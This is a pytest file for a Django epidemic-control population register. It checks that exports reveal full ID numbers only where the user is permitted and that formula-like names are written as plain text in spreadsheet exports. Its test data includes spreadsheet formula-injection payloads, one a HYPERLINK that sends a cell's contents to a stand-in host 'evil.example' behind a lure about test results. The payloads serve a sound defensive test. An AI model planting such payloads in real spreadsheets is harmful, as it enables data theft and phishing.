"""Issue 10, findings 2 and 18: what an exported or rejected-rows workbook may contain."""

import csv
import io

import pytest
from django.db import connection
from openpyxl import load_workbook

from conftest import County, Personas, body, login, make_resident_id, make_user
from fangkong.audit.models import AuditEvent
from fangkong.core.exports import csv_chunks
from fangkong.org.roles import Role
from fangkong.org.services import membership_grant, unit_create
from fangkong.people.exports import person_export
from fangkong.people.importing import import_job_create, import_job_execute
from fangkong.people.models import Person, PersonCategory
from fangkong.people.selectors import PersonFilter
from fangkong.people.services import PersonInput, person_create

pytestmark = pytest.mark.django_db


def sheet_rows(response):
    assert response.status_code == 200
    return list(load_workbook(io.BytesIO(body(response))).active.iter_rows(min_row=2))


def add_person(personas: Personas, unit, name: str, sequence: str) -> Person:
    return person_create(
        actor=personas.commander,
        data=PersonInput(
            name=name, id_type="resident", id_number=make_resident_id(sequence=sequence), unit=unit
        ),
    )


def test_full_ids_are_revealed_only_in_the_units_where_the_user_may_reveal(
    personas: Personas, county: County, person_a: Person
):
    # given a user who may see full ID numbers in a pharmacy and keeps village A's register
    pharmacy = unit_create(
        code="PH", name="康宁药店", kind="pharmacy", region=county.hq.region, parent=county.township
    )
    add_person(personas, pharmacy, "药店店员", "033")
    user = make_user("pharmacy-epi", Role.EPIDEMIOLOGIST, pharmacy)
    membership_grant(user=user, unit=county.village_a, role=Role.GRID_WORKER)
    # when they export everyone with full ID numbers
    rows = sheet_rows(login(user).get("/people/export.xlsx?full=1"))
    # then only the pharmacy's person has a full number; village A's stays masked
    assert {row[1].value: row[3].value for row in rows} == {
        "药店店员": make_resident_id(sequence="033"),
        "张三": person_a.id_masked,
    }
    export = AuditEvent.objects.get(action="export")
    assert (export.changes["count"], export.changes["revealed"]) == (2, 1)
    assert "其中 1 人含完整证件号码" in export.summary


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?d","点我")', "+1", "-1", "@A1"])
def test_a_formula_name_is_a_text_cell_in_the_export(personas: Personas, county: County, name: str):
    add_person(personas, county.grid_a, name, "044")
    [row] = sheet_rows(login(personas.worker_a).get("/people/export.xlsx"))
    assert (row[1].value, row[1].data_type, row[1].quotePrefix) == (name, "s", True)


def test_a_formula_name_is_a_text_cell_in_the_rejected_rows_file(
    personas: Personas, county: County
):
    # given a rejected row whose name (too long) is a formula
    name = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击此处查看本人核酸检测结果与隔离通知")'
    out = io.StringIO()
    csv.writer(out).writerows([["姓名", "证件号码"], [name, make_resident_id(sequence="055")]])
    job = import_job_create(
        user=personas.worker_a,
        unit=county.grid_a,
        file_name="register.csv",
        content=out.getvalue().encode(),
    )
    import_job_execute(job.pk)
    # when the importer downloads the rejected rows
    [row] = sheet_rows(login(personas.worker_a).get(f"/people/import/{job.pk}/rejected.xlsx"))
    # then the name is the text typed, not a live formula
    assert (row[1].value, row[2].value, row[2].data_type) == ("姓名", name, "s")


def test_the_csv_written_by_postgresql_is_the_csv_written_row_by_row(
    personas: Personas, county: County, person_a, person_b
):
    """On PostgreSQL a masked CSV export is written by COPY; it must hold what the rows hold."""
    if connection.vendor != "postgresql":
        pytest.skip("COPY writes the CSV on PostgreSQL only")
    # given people with categories, a household, no phone, an address that starts a formula
    person = add_person(personas, county.grid_a, "王五", "031")
    Person.objects.filter(pk=person.pk).update(address='-1+2, "门"\n二楼', sex="")
    PersonCategory.objects.create(person=person, category_id="returnee")
    PersonCategory.objects.create(person=person, category_id="resident")
    # when the commander exports (masked), by COPY and row by row
    export = person_export(user=personas.commander, filters=PersonFilter())
    assert export.csv_body is not None
    by_copy = b"".join(csv_chunks(export.header, ())) + b"".join(export.csv_body)
    by_rows = b"".join(csv_chunks(export.header, export.rows))

    # then both read back as the same rows
    def read(data: bytes) -> list[list[str]]:
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))

    assert read(by_copy) == read(by_rows)
    assert len(read(by_rows)) == 4
    assert read(by_rows)[1][11] == '\'-1+2, "门"\n二楼'


def test_a_csv_export_with_full_numbers_is_written_row_by_row(personas: Personas, person_a):
    export = person_export(user=personas.epidemiologist, filters=PersonFilter(), full_ids=True)
    assert export.csv_body is None
    assert [row[3] for row in export.rows] == [make_resident_id(sequence="011")]


@pytest.mark.parametrize("unit", ["99999", "99999999999999999999", "abc"])
def test_an_export_of_an_unknown_unit_is_empty_or_refused_never_a_server_error(
    personas: Personas, person_a, unit
):
    response = login(personas.commander).get("/people/export.csv", {"unit": unit})
    if unit == "99999":
        assert response.status_code == 200
        assert body(response).decode("utf-8-sig").count("\n") == 1  # the header alone
    else:
        assert response.status_code == 400
